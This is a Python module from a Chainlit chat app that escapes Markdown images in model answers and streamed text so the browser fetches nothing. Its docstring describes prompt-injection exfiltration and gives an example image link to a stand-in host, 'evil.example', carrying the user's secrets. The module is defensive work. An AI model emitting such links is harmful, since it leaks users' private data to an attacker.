"""What the chat shows of text it does not control (model answers, document snippets), made
unable to fetch anything: Chainlit renders Markdown, and a Markdown image is a request the
browser makes at once, to any address, with whatever the URL carries (an exfiltration channel
for a prompt injection: `![](https://evil.example/?q=<the user's secrets>)`).
"""

from __future__ import annotations

import re

IMAGE_OPENER = "!["
INERT_OPENER = "!\\["  # an escaped bracket: the text shows, no image is made of it
BACKTICKS = re.compile(r"`+")


def without_images(text: str) -> str:
    """`text` with every Markdown image (inline or by reference) shown as plain text."""
    return text.replace(IMAGE_OPENER, INERT_OPENER)


class ImageGuard:
    """Streamed text, passed on with its images made inert. A `!` at the end of what came so far
    is held back until the next piece shows whether a `[` follows it."""

    def __init__(self) -> None:
        self._held = ""

    def feed(self, piece: str) -> str:
        text = without_images(self._held + piece)
        text, self._held = (text[:-1], "!") if text.endswith("!") else (text, "")
        return text

    def flush(self) -> str:
        held, self._held = self._held, ""
        return held


def literal_block(lines: list[str]) -> str:
    """The lines as a fenced code block, which Markdown shows verbatim: no link, image or
    formatting in them takes effect. The fence is longer than any run of backticks inside."""
    longest = max((len(run) for line in lines for run in BACKTICKS.findall(line)), default=0)
    fence = "`" * max(3, longest + 1)
    return "\n".join([f"{fence}text", *lines, fence])
